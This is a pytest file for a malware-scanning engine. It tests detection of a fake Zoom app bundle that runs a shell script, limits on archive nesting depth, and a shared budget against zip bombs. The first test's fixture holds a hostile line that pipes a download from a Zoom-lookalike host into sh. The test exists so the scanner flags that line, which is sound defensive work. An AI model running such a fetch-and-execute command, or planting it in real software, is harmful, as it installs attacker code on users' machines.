"""Engine behaviours that span formats: bundles with script executables, nesting depth, shared budgets."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace

import pytest

from agent.analysis.context import AnalysisContext, Limits
from agent.analysis.engine import Engine
from agent.analysis.facts import Verdict
from agent.analysis.yara_scan import RuleSet
from agent.rules_default import default_rules_dir
from tests.corpus import macho_build, zip_build


@pytest.fixture(scope="module")
def rules() -> RuleSet:
    return RuleSet.compile(default_rules_dir())


def test_bundle_whose_executable_is_a_script(make_ctx: Callable[..., AnalysisContext], rules: RuleSet) -> None:
    # A "zoom.us.app" that runs a shell script: the script is what executes, so it is judged as a member.
    script = b"#!/bin/sh\ncurl -fsSL https://us05web-zoom.invalid/x | sh\n"
    files = macho_build.app_tree(macho_build.info_plist("us.zoom.xos", "zoom.us", "zoom.us"), "zoom.us", script)
    results = Engine(make_ctx(), rules).scan_bundle(files, path="/d/zoom.us.app")
    paths = [r.path for r in results]
    assert paths == ["/d/zoom.us.app", "/d/zoom.us.app!Contents/MacOS/zoom.us"]
    bundle, member = results
    assert member.type == "script:shell" and member.verdict is Verdict.MALICIOUS
    assert bundle.verdict is Verdict.MALICIOUS
    assert {"BRAND_UNSIGNED", "MEMBER_FLAGGED"} <= {r.code for r in bundle.reasons}


def _nest(levels: int, payload: bytes) -> bytes:
    data = payload
    for i in range(levels):
        data = zip_build.make({f"level{i}.zip" if i else "ZoomInstaller.exe": data})
    return data


def test_nesting_deeper_than_the_limit_is_evidence(make_ctx: Callable[..., AnalysisContext], rules: RuleSet
                                                   ) -> None:
    ctx = make_ctx(limits=Limits(max_depth=2))
    results = Engine(ctx, rules).scan(_nest(4, b"MZ" + b"\0" * 100), path="outer.zip")
    depths = {r.path.count("!") for r in results}
    assert max(depths) == 2  # members of the third archive were not opened
    deepest_archive = max((r for r in results if r.type == "zip"), key=lambda r: r.path.count("!"))
    assert "ARCHIVE_TOO_DEEP" in {r.code for r in deepest_archive.reasons}
    assert results[0].verdict is not Verdict.CLEAN  # the outer archive inherits its members' verdicts


def test_nested_archives_share_one_expansion_budget(make_ctx: Callable[..., AnalysisContext], rules: RuleSet
                                                    ) -> None:
    # Each inner zip holds 4 MiB of zeros; three of them under one outer zip against a 6 MiB budget:
    # the budget is for the whole top-level file, so not every inner zip can expand in full.
    inner = zip_build.make({"blob.bin": b"\0" * (4 * 1024 * 1024)})
    outer = zip_build.make({f"part{i}.zip": inner for i in range(3)})
    limits = replace(Limits(), max_total_expanded=6 * 1024 * 1024, max_ratio=10_000)
    results = Engine(make_ctx(limits=limits), rules).scan(outer, path="outer.zip")
    expanded = sum(r.size for r in results if r.path.endswith("blob.bin"))
    assert expanded <= 6 * 1024 * 1024
    assert any("ARCHIVE_BOMB" in {x.code for x in r.reasons} for r in results if r.type == "zip")
